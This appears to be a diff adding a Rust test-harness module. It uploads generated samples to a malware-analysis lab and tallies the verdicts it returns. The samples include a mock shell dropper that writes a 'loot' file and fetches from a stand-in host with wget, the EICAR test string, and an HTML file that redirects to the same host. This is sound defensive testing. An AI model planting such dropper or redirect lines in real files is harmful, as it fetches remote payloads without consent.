@@ -1,0 +1,75 @@
+//! Fourth act: samples for the lab, some of them bad.
+
+use super::eicar;
+use super::stage::Stage;
+use crate::answer::{number, text};
+use crate::control::query;
+use serde::Serialize;
+use std::collections::BTreeMap;
+use std::time::{Duration, Instant};
+
+const PATIENCE: Duration = Duration::from_secs(60);
+
+/// What became of it.
+#[derive(Serialize)]
+pub(super) struct Outcome {
+    pub(super) samples: usize,
+    pub(super) analysed: usize,
+    pub(super) seconds: f64,
+    /// How many of each verdict.
+    pub(super) verdicts: BTreeMap<String, usize>,
+}
+
+impl Outcome {
+    pub(super) fn said(&self) -> String {
+        format!("{}, {}, {:.1} s", self.samples, self.analysed, self.seconds)
+    }
+}
+
+pub(super) fn play(stage: &Stage) -> anyhow::Result<Option<Outcome>> {
+    if !stage.lab {
+        return Ok(None);
+    }
+    let begun = Instant::now();
+    let mut ids = Vec::new();
+    for (name, content) in drop_of_samples() {
+        let path = query(&[("name", name), ("priority", "3")]);
+        ids.push(number(&stage.control.post_bytes(&format!("/lab/samples{path}"), content)?, "sample"));
+    }
+    let mut open = ids.clone();
+    let mut verdicts = BTreeMap::new();
+    while !open.is_empty() && begun.elapsed() < PATIENCE {
+        std::thread::sleep(Duration::from_millis(100));
+        let mut still = Vec::new();
+        for id in open {
+            let sample = stage.control.get(&format!("/lab/samples/{id}"))?;
+            match sample["state"].as_str().or_else(|| sample["sample"]["state"].as_str()) {
+                Some("queued" | "running") => still.push(id),
+                _ => {
+                    let verdict = [text(&sample, "verdict"), text(&sample["sample"], "verdict")].concat();
+                    *verdicts.entry(verdict).or_insert(0) += 1;
+                }
+            }
+        }
+        open = still;
+    }
+    Ok(Some(Outcome {
+        samples: ids.len(),
+        analysed: ids.len() - open.len(),
+        seconds: begun.elapsed().as_secs_f64(),
+        verdicts,
+    }))
+}
+
+/// Each run has new content, so that the lab has something to do.
+fn drop_of_samples() -> Vec<(&'static str, Vec<u8>)> {
+    let salt = format!("# {}\n", weir_mail::desk::fresh_password());
+    let script =
+        format!("#!/bin/sh\n{salt}echo stolen > /tmp/loot\n(sleep 1; wget -q http://198.51.100.7/next) &\nwait\n");
+    vec![
+        ("dropper.sh", script.into_bytes()),
+        ("eicar.com", eicar().into_bytes()),
+        ("notes.txt", format!("{salt}Nothing to see here.\n").into_bytes()),
+        ("invoice.html", format!("<!-- {salt} --><script>location='http://198.51.100.7/'</script>").into_bytes()),
+    ]
+}
